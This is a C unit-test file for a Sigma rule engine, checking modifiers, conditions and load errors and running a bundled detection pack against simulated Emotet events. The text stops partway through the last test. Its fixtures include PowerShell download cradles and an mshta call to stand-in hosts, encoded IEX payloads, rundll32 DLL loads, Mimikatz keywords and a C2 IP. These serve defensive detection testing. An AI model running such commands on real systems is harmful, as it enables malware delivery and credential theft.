/*
 * test_rules.c - the Sigma engine on hand-built events: every modifier, every condition form,
 * the load errors (with their exact text for the common ones), and the bundled pack on an
 * Emotet outbreak and on benign look-alikes.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "xf/rules.h"

/* ---- helpers ------------------------------------------------------------------------------- */

static struct xf_ruleset *load_ok(const char *yaml)
{
    struct xf_ruleset *rs = NULL;
    struct xf_rule_errors errs = {0};
    int rc = xf_ruleset_load_buffer("t.yml", yaml, strlen(yaml), &rs, &errs);

    for (size_t i = 0; i < errs.count; i++)
        fprintf(stderr, "%s:%d: %s\n", errs.items[i].file, errs.items[i].line,
                errs.items[i].message);
    assert_int_equal(rc, 0);
    assert_int_equal(errs.count, 0);
    xf_rule_errors_close(&errs);
    assert_non_null(rs);
    return rs;
}

/* Loads a broken rule and checks the one error: its line and message. */
static void load_err(const char *yaml, int line, const char *message)
{
    struct xf_ruleset *rs = NULL;
    struct xf_rule_errors errs = {0};
    int rc = xf_ruleset_load_buffer("bad.yml", yaml, strlen(yaml), &rs, &errs);

    assert_int_equal(rc, XF_ERULE);
    assert_null(rs);
    assert_int_equal(errs.count, 1);
    assert_string_equal(errs.items[0].file, "bad.yml");
    assert_string_equal(errs.items[0].message, message);
    assert_int_equal(errs.items[0].line, line);
    xf_rule_errors_close(&errs);
}

/* An event from (field, value) pairs ending with a -1 field. */
static void ev_build(struct xf_event *ev, enum xf_category cat, ...)
{
    va_list ap;
    int f;

    xf_event_init(ev);
    ev->category = cat;
    va_start(ap, cat);
    while ((f = va_arg(ap, int)) >= 0) {
        const char *v = va_arg(ap, const char *);
        assert_int_equal(xf_event_set(ev, (enum xf_field)f, v, (size_t)-1), 0);
    }
    va_end(ap);
}

/* Builds a one-selection process_creation rule around a detection body. */
static struct xf_ruleset *rule_with(const char *selection)
{
    char yaml[2048];

    snprintf(yaml, sizeof yaml,
             "title: t\nid: 11111111-1111-4111-8111-111111111111\n"
             "logsource: {category: process_creation, product: windows}\n"
             "detection:\n  sel:\n%s\n  condition: sel\n",
             selection);
    return load_ok(yaml);
}

/* 1 if the single-selection rule matches field f = value. */
static int hit(const char *selection, enum xf_field f, const char *value)
{
    struct xf_ruleset *rs = rule_with(selection);
    struct xf_event ev;
    size_t n;

    ev_build(&ev, XF_CAT_PROCESS, (int)f, value, -1);
    n = xf_ruleset_match(rs, &ev, NULL, NULL);
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
    return (int)n;
}

struct titles {
    char buf[1024];
};

static void collect(const struct xf_rule_info *rule, void *ud)
{
    struct titles *t = ud;
    size_t len = strlen(t->buf);

    snprintf(t->buf + len, sizeof t->buf - len, "%s%s", len ? "; " : "", rule->title);
}

/* ---- modifiers ----------------------------------------------------------------------------- */

static void test_plain_value_is_case_insensitive_equality(void **state)
{
    (void)state;
    const char *sel = "    Image: 'C:\\Windows\\System32\\cmd.exe'";
    assert_int_equal(hit(sel, XF_F_IMAGE, "c:\\windows\\system32\\CMD.EXE"), 1);
    assert_int_equal(hit(sel, XF_F_IMAGE, "C:\\Windows\\System32\\cmd.exe.bak"), 0);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "C:\\Windows\\System32\\cmd.exe"), 0);
}

static void test_wildcards_and_escapes(void **state)
{
    (void)state;
    assert_int_equal(hit("    Image: '*\\cmd.exe'", XF_F_IMAGE, "C:\\x\\CMD.exe"), 1);
    assert_int_equal(hit("    Image: 'c?d.exe'", XF_F_IMAGE, "cmd.exe"), 1);
    assert_int_equal(hit("    Image: 'c?d.exe'", XF_F_IMAGE, "cd.exe"), 0);
    assert_int_equal(hit("    Image: 'a*b*c'", XF_F_IMAGE, "aXXbYYbZc"), 1);
    assert_int_equal(hit("    Image: 'a*b*c'", XF_F_IMAGE, "aXXbYYcZ"), 0);
    /* ? is one character, also when it is several UTF-8 bytes */
    assert_int_equal(hit("    Image: 'a?b'", XF_F_IMAGE,
                         "a\xc3\xa9"
                         "b"),
                     1);
    /* \* is a literal star; \\ before a wildcard is one backslash */
    assert_int_equal(hit("    CommandLine: 'a\\*b'", XF_F_COMMAND_LINE, "a*b"), 1);
    assert_int_equal(hit("    CommandLine: 'a\\*b'", XF_F_COMMAND_LINE, "aXb"), 0);
    assert_int_equal(hit("    CommandLine: 'C:\\\\*'", XF_F_COMMAND_LINE, "C:\\temp"), 1);
}

static void test_contains_startswith_endswith(void **state)
{
    (void)state;
    assert_int_equal(
        hit("    CommandLine|contains: 'DownloadFile'", XF_F_COMMAND_LINE, "x.downloadfile(y)"), 1);
    assert_int_equal(hit("    CommandLine|startswith: 'cmd'", XF_F_COMMAND_LINE, "CMD /c x"), 1);
    assert_int_equal(hit("    CommandLine|startswith: 'cmd'", XF_F_COMMAND_LINE, "x cmd"), 0);
    assert_int_equal(hit("    Image|endswith: '\\rundll32.exe'", XF_F_IMAGE,
                         "C:\\Windows\\System32\\RUNDLL32.EXE"),
                     1);
    assert_int_equal(
        hit("    Image|endswith: '\\rundll32.exe'", XF_F_IMAGE, "C:\\rundll32.exe.tmp"), 0);
    /* a wildcard inside a contains value still works */
    assert_int_equal(hit("    CommandLine|contains: 'a*z'", XF_F_COMMAND_LINE, "xxaMMzxx"), 1);
}

static void test_list_is_or_and_all_is_and(void **state)
{
    (void)state;
    const char *any = "    CommandLine|contains: ['alpha', 'beta']";
    const char *all = "    CommandLine|contains|all: ['alpha', 'beta']";
    assert_int_equal(hit(any, XF_F_COMMAND_LINE, "beta only"), 1);
    assert_int_equal(hit(all, XF_F_COMMAND_LINE, "beta only"), 0);
    assert_int_equal(hit(all, XF_F_COMMAND_LINE, "beta and alpha"), 1);
}

static void test_re_is_case_sensitive_unless_i(void **state)
{
    (void)state;
    assert_int_equal(hit("    CommandLine|re: '-e(nc)? [A-Za-z0-9+/=]{8,}'", XF_F_COMMAND_LINE,
                         "powershell -enc SQBFAFgA"),
                     1);
    assert_int_equal(hit("    CommandLine|re: 'Invoke'", XF_F_COMMAND_LINE, "invoke"), 0);
    assert_int_equal(hit("    CommandLine|re|i: 'Invoke'", XF_F_COMMAND_LINE, "invoke"), 1);
}

static void test_cidr_ipv4_ipv6_and_mapped(void **state)
{
    (void)state;
    const char *v4 = "    DestinationIp|cidr: ['10.0.0.0/8', '172.16.0.0/12']";
    assert_int_equal(hit(v4, XF_F_DESTINATION_IP, "10.1.2.3"), 1);
    assert_int_equal(hit(v4, XF_F_DESTINATION_IP, "172.31.255.255"), 1);
    assert_int_equal(hit(v4, XF_F_DESTINATION_IP, "172.32.0.1"), 0);
    assert_int_equal(hit(v4, XF_F_DESTINATION_IP, "::ffff:10.9.9.9"), 1);
    assert_int_equal(hit(v4, XF_F_DESTINATION_IP, "not an ip"), 0);
    assert_int_equal(hit("    SourceIp|cidr: 'fe80::/10'", XF_F_SOURCE_IP, "fe80::1%12"), 1);
    assert_int_equal(hit("    SourceIp|cidr: 'fe80::/10'", XF_F_SOURCE_IP, "2001:db8::1"), 0);
    assert_int_equal(hit("    IpAddress|cidr: '192.168.1.7'", XF_F_IP_ADDRESS, "192.168.1.7"), 1);
}

static void test_windash_matches_every_dash(void **state)
{
    (void)state;
    const char *sel = "    CommandLine|windash|contains: ' -enc '";
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell -enc AAA"), 1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell /enc AAA"), 1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE,
                         "powershell \xe2\x80\x93"
                         "enc AAA"),
                     1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE,
                         "powershell \xe2\x80\x94"
                         "enc AAA"),
                     1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE,
                         "powershell \xe2\x80\x95"
                         "enc AAA"),
                     1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell +enc AAA"), 0);
    /* a slash in the rule also stands for a dash */
    assert_int_equal(
        hit("    CommandLine|windash|contains: ' /c '", XF_F_COMMAND_LINE, "cmd -c echo"), 1);
}

static void test_base64offset_matches_at_each_offset(void **state)
{
    (void)state;
    const char *sel = "    CommandLine|base64offset|contains: 'http://evil.example'";
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "x aHR0cDovL2V2aWwuZXhhbXBsZS9h"), 1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "x eGh0dHA6Ly9ldmlsLmV4YW1wbGUvYQ=="), 1);
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "x eHhodHRwOi8vZXZpbC5leGFtcGxlL2E="), 1);
    /* base64 is case-sensitive */
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "x AHR0CDOVL2V2AWWUZXHHBXBSZS9H"), 0);
    assert_int_equal(hit("    CommandLine|base64|contains: 'http://evil.example/a'",
                         XF_F_COMMAND_LINE, "x aHR0cDovL2V2aWwuZXhhbXBsZS9h y"),
                     1);
}

static void test_wide_base64offset_finds_powershell_enc_payload(void **state)
{
    (void)state;
    /* powershell -enc of "IEX (New-Object Net.WebClient).DownloadString(1)" (UTF-16LE) */
    const char *cl = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZ"
                     "QBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAxACkA";
    assert_int_equal(
        hit("    CommandLine|wide|base64offset|contains: 'DownloadString'", XF_F_COMMAND_LINE, cl),
        1);
    assert_int_equal(
        hit("    CommandLine|wide|base64offset|contains: 'DownloadFile'", XF_F_COMMAND_LINE, cl),
        0);
}

static void test_null_means_absent_and_exists(void **state)
{
    struct xf_ruleset *rs = rule_with("    Image|endswith: '\\cmd.exe'\n    CommandLine: null");
    struct xf_event ev;

    (void)state;
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "c:\\cmd.exe", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 1);
    assert_int_equal(xf_event_set(&ev, XF_F_COMMAND_LINE, "cmd /c x", (size_t)-1), 0);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 0);
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);

    assert_int_equal(hit("    User|exists: true", XF_F_USER, "corp\\akiko"), 1);
    assert_int_equal(hit("    User|exists: true", XF_F_IMAGE, "x"), 0);
    assert_int_equal(hit("    User|exists: false", XF_F_IMAGE, "x"), 1);
}

static void test_numbers_compare_as_strings(void **state)
{
    (void)state;
    assert_int_equal(hit("    EventID: 7045", XF_F_EVENT_ID, "7045"), 1);
    assert_int_equal(hit("    EventID: 7045", XF_F_EVENT_ID, "70450"), 0);
    assert_int_equal(hit("    DestinationPort: [25, 587]", XF_F_DESTINATION_PORT, "587"), 1);
}

static void test_multi_valued_field_matches_any_value(void **state)
{
    struct xf_ruleset *rs = rule_with("    Recipient|endswith: '@corp.example'");
    struct xf_event ev;

    (void)state;
    ev_build(&ev, XF_CAT_PROCESS, -1);
    assert_int_equal(xf_event_add(&ev, XF_F_RECIPIENT, "a@other.example", (size_t)-1), 0);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 0);
    assert_int_equal(xf_event_add(&ev, XF_F_RECIPIENT, "akiko@corp.example", (size_t)-1), 0);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 1);
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

static void test_keywords_search_keyword_fields(void **state)
{
    (void)state;
    const char *sel = "    - 'Invoke-Mimikatz'\n    - 'sekurlsa'";
    assert_int_equal(hit(sel, XF_F_COMMAND_LINE, "powershell Invoke-Mimikatz -x"), 1);
    assert_int_equal(hit(sel, XF_F_IMAGE_PATH, "x sekurlsa::logonpasswords"), 1);
    assert_int_equal(hit(sel, XF_F_USER, "sekurlsa"), 0);
}

static void test_cased_is_case_sensitive(void **state)
{
    (void)state;
    assert_int_equal(hit("    CommandLine|contains|cased: 'IEX'", XF_F_COMMAND_LINE, "x iex y"), 0);
    assert_int_equal(hit("    CommandLine|contains|cased: 'IEX'", XF_F_COMMAND_LINE, "x IEX y"), 1);
}

static void test_field_aliases_resolve_to_our_fields(void **state)
{
    (void)state;
    assert_int_equal(hit("    NewProcessName|endswith: '\\cmd.exe'", XF_F_IMAGE, "c:\\cmd.exe"), 1);
    assert_int_equal(
        hit("    ParentProcessName|endswith: '\\w.exe'", XF_F_PARENT_IMAGE, "c:\\w.exe"), 1);
    assert_int_equal(hit("    DestPort: 445", XF_F_DESTINATION_PORT, "445"), 1);
    assert_int_equal(hit("    ServiceFileName|contains: 'cmd'", XF_F_IMAGE_PATH, "cmd /c"), 1);
    assert_int_equal(hit("    SHA256: 'ab'", XF_F_SHA256, "AB"), 1);
    assert_int_equal(
        hit("    TargetImage|endswith: 'lsass.exe'", XF_F_TARGET_IMAGE, "c:\\lsass.exe"), 1);
    assert_int_equal(
        hit("    DestinationHostname: 'a.example'", XF_F_DESTINATION_HOSTNAME, "A.example"), 1);
}

/* ---- conditions ---------------------------------------------------------------------------- */

/* Rule with selections a, b, c, _d matching CommandLine containing "a", "b", "c", "d". */
static int cond_hit(const char *condition, const char *cmdline)
{
    char yaml[1024];
    struct xf_ruleset *rs;
    struct xf_event ev;
    size_t n;

    snprintf(yaml, sizeof yaml,
             "title: c\nlogsource: {category: process_creation}\ndetection:\n"
             "  sel_a: {CommandLine|contains: 'a'}\n  sel_b: {CommandLine|contains: 'b'}\n"
             "  other_c: {CommandLine|contains: 'c'}\n  _d: {CommandLine|contains: 'd'}\n"
             "  condition: %s\n",
             condition);
    rs = load_ok(yaml);
    ev_build(&ev, XF_CAT_PROCESS, XF_F_COMMAND_LINE, cmdline, -1);
    n = xf_ruleset_match(rs, &ev, NULL, NULL);
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
    return (int)n;
}

static void test_condition_precedence_not_and_or(void **state)
{
    (void)state;
    /* sel_a or (sel_b and (not other_c)) */
    assert_int_equal(cond_hit("sel_a or sel_b and not other_c", "a c"), 1);
    assert_int_equal(cond_hit("sel_a or sel_b and not other_c", "b"), 1);
    assert_int_equal(cond_hit("sel_a or sel_b and not other_c", "b c"), 0);
    assert_int_equal(cond_hit("(sel_a or sel_b) and not other_c", "a c"), 0);
    assert_int_equal(cond_hit("not not sel_a", "a"), 1);
    assert_int_equal(cond_hit("NOT sel_a AND sel_b", "b"), 1);
}

static void test_condition_of_forms(void **state)
{
    (void)state;
    assert_int_equal(cond_hit("1 of sel_*", "b"), 1);
    assert_int_equal(cond_hit("all of sel_*", "b"), 0);
    assert_int_equal(cond_hit("all of sel_*", "ab"), 1);
    assert_int_equal(cond_hit("1 of them", "c"), 1);
    /* them leaves out _d */
    assert_int_equal(cond_hit("1 of them", "d"), 0);
    assert_int_equal(cond_hit("all of them", "abc"), 1);
    assert_int_equal(cond_hit("all of them and _d", "abc"), 0);
    assert_int_equal(cond_hit("any of sel_? and not 1 of other*", "a"), 1);
}

static void test_condition_list_is_or(void **state)
{
    (void)state;
    assert_int_equal(cond_hit("['sel_a and sel_b', 'other_c']", "c"), 1);
    assert_int_equal(cond_hit("['sel_a and sel_b', 'other_c']", "a"), 0);
    assert_int_equal(cond_hit("['sel_a and sel_b', 'other_c']", "ab"), 1);
}

static void test_selection_list_of_maps_is_or_of_ands(void **state)
{
    const char *sel = "    - Image|endswith: '\\a.exe'\n      CommandLine|contains: 'x'\n"
                      "    - Image|endswith: '\\b.exe'";
    struct xf_ruleset *rs = rule_with(sel);
    struct xf_event ev;

    (void)state;
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "c:\\a.exe", XF_F_COMMAND_LINE, "y", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 0);
    xf_event_close(&ev);
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "c:\\a.exe", XF_F_COMMAND_LINE, "x", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 1);
    xf_event_close(&ev);
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "c:\\b.exe", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 1);
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

/* ---- metadata and logsource ---------------------------------------------------------------- */

static void keep_info(const struct xf_rule_info *rule, void *ud)
{
    *(const struct xf_rule_info **)ud = rule;
}

static void test_tags_become_techniques_and_tactics(void **state)
{
    struct xf_ruleset *rs = load_ok(
        "title: Tagged\nid: 22222222-2222-4222-8222-222222222222\nlevel: critical\n"
        "tags: [attack.execution, attack.t1059.001, attack.t1047, attack.g0032, cve.2021.1,\n"
        "       attack.lateral_movement, attack.t1059.001]\n"
        "logsource: {category: process_creation}\n"
        "detection: {s: {Image: x}, condition: s}\n");
    const struct xf_rule_info *info = NULL;
    struct xf_event ev;

    (void)state;
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "X", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, keep_info, &info), 1);
    assert_non_null(info);
    assert_string_equal(info->title, "Tagged");
    assert_string_equal(info->id, "22222222-2222-4222-8222-222222222222");
    assert_int_equal(info->level, XF_LEVEL_CRITICAL);
    assert_string_equal(xf_level_name(info->level), "critical");
    assert_int_equal(info->n_techniques, 2);
    assert_string_equal(info->techniques[0], "T1059.001");
    assert_string_equal(info->techniques[1], "T1047");
    assert_int_equal(info->n_tactics, 2);
    assert_string_equal(info->tactics[0], "execution");
    assert_string_equal(info->tactics[1], "lateral_movement");
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

static void test_logsource_category_restricts_rules(void **state)
{
    struct xf_ruleset *rs =
        load_ok("title: proc\nlogsource: {category: process_creation}\n"
                "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
                "---\n"
                "title: file\nlogsource: {category: file_event}\n"
                "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
                "---\n"
                "title: any\nlogsource: {product: windows, service: system}\n"
                "detection: {s: {Image|endswith: 'x.exe'}, condition: s}\n"
                "---\n"
                "title: corr\ncorrelation: {type: event_count, rules: [proc]}\n");
    struct titles t = {{0}};
    struct xf_event ev;

    (void)state;
    assert_int_equal(xf_ruleset_count(rs), 3);
    ev_build(&ev, XF_CAT_FILE, XF_F_IMAGE, "c:\\x.exe", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, collect, &t), 2);
    assert_string_equal(t.buf, "file; any");
    xf_event_close(&ev);
    memset(&t, 0, sizeof t);
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "c:\\x.exe", -1);
    assert_int_equal(xf_ruleset_match(rs, &ev, collect, &t), 2);
    assert_string_equal(t.buf, "proc; any");
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

/* ---- errors -------------------------------------------------------------------------------- */

#define HEAD "title: bad\nlogsource: {category: process_creation}\n"

static void test_error_unknown_modifier(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s:\n    Image|containz: x\n  condition: s\n", 5,
             "unknown modifier 'containz'");
}

static void test_error_modifier_conflict(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s:\n    Image|contains|re: x\n  condition: s\n", 5,
             "modifier 're' cannot be combined with 'contains'");
    load_err(HEAD "detection:\n  s:\n    Image|i: x\n  condition: s\n", 5,
             "modifier 'i' must follow 're'");
}

static void test_error_missing_detection_and_condition(void **state)
{
    (void)state;
    load_err(HEAD "level: high\n", 1, "missing 'detection'");
    load_err(HEAD "detection:\n  s: {Image: x}\n", 4, "missing 'condition' in detection");
    load_err("logsource: {category: process_creation}\ndetection: {s: {Image: x}, condition: s}\n",
             1, "missing 'title'");
}

static void test_error_unknown_selection(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  sel: {Image: x}\n  condition: sel and sel2\n", 5,
             "condition references unknown selection 'sel2'");
    load_err(HEAD "detection:\n  sel: {Image: x}\n  condition: 1 of filter*\n", 5,
             "condition references unknown selection 'filter*'");
}

static void test_error_bad_condition_syntax(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s: {Image: x}\n  condition: (s\n", 5, "condition: missing ')'");
    load_err(HEAD "detection:\n  s: {Image: x}\n  condition: s and\n", 5,
             "condition: unexpected end");
    load_err(HEAD "detection:\n  s: {Image: x}\n  condition: s | count() > 5\n", 5,
             "condition: aggregations ('|') are not supported");
    load_err(HEAD "detection:\n  s: {Image: x}\n  condition: s s\n", 5,
             "condition: unexpected 's' at column 3");
}

static void test_error_bad_regex_carries_pcre2_message(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s:\n    CommandLine|re: 'a(b'\n  condition: s\n", 5,
             "bad regex 'a(b' at offset 3: missing closing parenthesis");
}

static void test_error_unknown_field(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s:\n    Imagez: x\n  condition: s\n", 5, "unknown field 'Imagez'");
}

static void test_error_bad_cidr(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: s\n", 5,
             "bad cidr '10.0.0.0/33'");
    load_err(HEAD "detection:\n  s:\n    DestinationIp|cidr: '10.0.0/8'\n  condition: s\n", 5,
             "bad cidr '10.0.0/8'");
}

static void test_error_wrong_node_type(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  - s\n", 4, "'detection' must be a map, not a list");
    load_err(HEAD "detection:\n  s:\n    Image: {a: b}\n  condition: s\n", 5,
             "'a field value' must be a string or a list of strings, not a map");
    load_err("- a\n- b\n", 1, "'a rule document' must be a map, not a list");
}

static void test_error_unknown_category_and_level(void **state)
{
    (void)state;
    load_err("title: t\nlogsource: {category: proces_creation}\n"
             "detection: {s: {Image: x}, condition: s}\n",
             2, "unknown logsource category 'proces_creation'");
    load_err(HEAD "level: severe\ndetection: {s: {Image: x}, condition: s}\n", 3,
             "unknown level 'severe'");
}

static void test_error_yaml_syntax_has_line(void **state)
{
    (void)state;
    load_err(HEAD "detection:\n  s: {Image: x\n  condition: s\n", 5,
             "YAML: did not find expected ',' or '}' while parsing a flow mapping");
}

static void test_error_duplicate_rule_id_in_file(void **state)
{
    (void)state;
    load_err("title: one\nid: 33333333-3333-4333-8333-333333333333\n"
             "detection: {s: {Image: x}, condition: s}\n---\n"
             "title: two\nid: 33333333-3333-4333-8333-333333333333\n"
             "detection: {s: {Image: x}, condition: s}\n",
             6, "duplicate rule id '33333333-3333-4333-8333-333333333333' (also 'one')");
}

static void write_file(const char *dir, const char *name, const char *text)
{
    char path[512];
    FILE *f;

    snprintf(path, sizeof path, "%s/%s", dir, name);
    f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void test_broken_file_is_skipped_and_others_load(void **state)
{
    char dir[] = "/tmp/xf-rules-test-XXXXXX";
    char sub[600];
    const char *paths[1] = {dir};
    struct xf_ruleset *rs = NULL;
    struct xf_rule_errors errs = {0};
    struct titles t = {{0}};
    struct xf_event ev;

    (void)state;
    assert_non_null(mkdtemp(dir));
    snprintf(sub, sizeof sub, "%s/sub", dir);
    assert_int_equal(mkdir(sub, 0700), 0);
    write_file(dir, "a_good.yml", "title: good a\ndetection: {s: {Image: x}, condition: s}\n");
    /* one good and one bad document: the whole file is out */
    write_file(dir, "b_mixed.yaml",
               "title: good b\ndetection: {s: {Image: x}, condition: s}\n---\n"
               "title: bad b\ndetection: {s: {Image|nope: x}, condition: s}\n");
    write_file(dir, "notes.txt", "not yaml: [");
    write_file(sub, "c_good.yml", "title: good c\ndetection: {s: {Image: x}, condition: s}\n");
    assert_int_equal(xf_ruleset_load(paths, 1, &rs, &errs), 0);
    assert_int_equal(xf_ruleset_count(rs), 2);
    assert_int_equal(errs.count, 1);
    assert_non_null(strstr(errs.items[0].file, "/b_mixed.yaml"));
    assert_int_equal(errs.items[0].line, 5);
    assert_string_equal(errs.items[0].message, "unknown modifier 'nope'");
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "x", -1);
    xf_ruleset_match(rs, &ev, collect, &t);
    assert_string_equal(t.buf, "good a; good c");
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
    xf_rule_errors_close(&errs);

    /* a path that does not exist is an error, and with nothing loaded the load fails */
    {
        char missing[600];
        const char *mp[1] = {missing};

        snprintf(missing, sizeof missing, "%s/nope", dir);
        assert_int_equal(xf_ruleset_load(mp, 1, &rs, &errs), XF_ERULE);
        assert_null(rs);
        assert_int_equal(errs.count, 1);
        assert_string_equal(errs.items[0].message, "cannot open: No such file or directory");
        xf_rule_errors_close(&errs);
    }
    snprintf(sub, sizeof sub, "rm -rf '%s'", dir);
    assert_int_equal(system(sub), 0);
}

static void test_default_dir_honours_environment(void **state)
{
    (void)state;
    unsetenv("XDRFLOW_RULES_DIR");
    assert_string_equal(xf_rules_default_dir(), XF_TEST_PACK_DIR);
    setenv("XDRFLOW_RULES_DIR", "/etc/xdrflow/rules", 1);
    assert_string_equal(xf_rules_default_dir(), "/etc/xdrflow/rules");
    unsetenv("XDRFLOW_RULES_DIR");
}

/* ---- the bundled pack ---------------------------------------------------------------------- */

static struct xf_ruleset *load_pack(void)
{
    const char *dir = XF_TEST_PACK_DIR;
    struct xf_ruleset *rs = NULL;
    struct xf_rule_errors errs = {0};

    assert_int_equal(xf_ruleset_load(&dir, 1, &rs, &errs), 0);
    for (size_t i = 0; i < errs.count; i++)
        fprintf(stderr, "%s:%d: %s\n", errs.items[i].file, errs.items[i].line,
                errs.items[i].message);
    assert_int_equal(errs.count, 0);
    xf_rule_errors_close(&errs);
    return rs;
}

/* Titles of the pack rules that fire on one event, in load (file name) order. */
static void pack_fires(struct xf_ruleset *rs, const struct xf_event *ev, const char *want)
{
    struct titles t = {{0}};

    xf_ruleset_match(rs, ev, collect, &t);
    assert_string_equal(t.buf, want);
}

#define PROC(img, cl, parent)                                                                      \
    XF_CAT_PROCESS, XF_F_IMAGE, img, XF_F_COMMAND_LINE, cl, XF_F_PARENT_IMAGE, parent, -1

static void test_pack_loads_without_errors(void **state)
{
    struct xf_ruleset *rs = load_pack();

    (void)state;
    assert_int_equal(xf_ruleset_count(rs), 17);
    xf_ruleset_destroy(rs);
}

static void test_pack_fires_on_emotet_outbreak(void **state)
{
    struct xf_ruleset *rs = load_pack();
    struct xf_event ev;
    const char *word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    const char *ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const char *r32 = "C:\\Windows\\System32\\rundll32.exe";

    (void)state;
    ev_build(&ev, PROC(ps, "powershell -w hidden -enc JABzAD0AJwBoAHQAdABwAA==", word));
    pack_fires(rs, &ev,
               "Office Application Spawns Script Host or LOLBin; "
               "PowerShell With Encoded Command");
    xf_event_close(&ev);

    ev_build(&ev, PROC(ps, "powershell -e JABzAD0AJwBoAHQAdABwAA==",
                       "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"));
    pack_fires(rs, &ev,
               "PowerShell With Encoded Command; "
               "WMI Provider Host Spawns Shell or Script Host");
    xf_event_close(&ev);

    ev_build(&ev, PROC(ps,
                       "powershell (New-Object Net.WebClient).DownloadFile('http://e.example/a',"
                       "'C:\\Users\\akiko\\AppData\\Local\\Temp\\a.dll')",
                       "C:\\Windows\\System32\\wscript.exe"));
    pack_fires(rs, &ev, "PowerShell Download Cradle; Windows Script Host Spawns PowerShell");
    xf_event_close(&ev);

    ev_build(&ev, PROC(r32,
                       "rundll32.exe C:\\Users\\akiko\\AppData\\Local\\Temp\\a.dll,"
                       "Control_RunDLL",
                       ps));
    pack_fires(rs, &ev,
               "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder; "
               "Emotet Loader Rundll32 Execution");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Windows\\SysWOW64\\regsvr32.exe",
                       "regsvr32.exe -s C:\\ProgramData\\Yfhsd\\lbsz.dll", word));
    pack_fires(rs, &ev,
               "Office Application Spawns Script Host or LOLBin; "
               "Regsvr32 or Rundll32 Runs a DLL From a User-Writable Folder");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Windows\\System32\\mshta.exe", "mshta http://e.example/x.hta",
                       "C:\\Windows\\explorer.exe"));
    pack_fires(rs, &ev, "Mshta Runs Inline Script or Remote HTA");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_FILE, XF_F_IMAGE, word, XF_F_TARGET_FILENAME,
             "C:\\Users\\akiko\\AppData\\Local\\Temp\\invoice.exe", -1);
    pack_fires(rs, &ev, "Office Application Writes Executable or Script File");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, r32, XF_F_DESTINATION_IP, "162.243.103.246",
             XF_F_DESTINATION_PORT, "8080", -1);
    pack_fires(rs, &ev,
               "Rundll32 or Regsvr32 Connects on Emotet C2 Ports; "
               "Proxy-Execution Binary Connects to a Public IP");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, r32, XF_F_DESTINATION_IP, "10.20.0.17",
             XF_F_DESTINATION_PORT, "445", -1);
    pack_fires(rs, &ev, "SMB Connection From PowerShell or Proxy-Execution Binary");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, r32, XF_F_DESTINATION_IP, "10.20.0.25",
             XF_F_DESTINATION_PORT, "587", -1);
    pack_fires(rs, &ev, "SMTP Connection From a Non-Mail Process");
    xf_event_close(&ev);

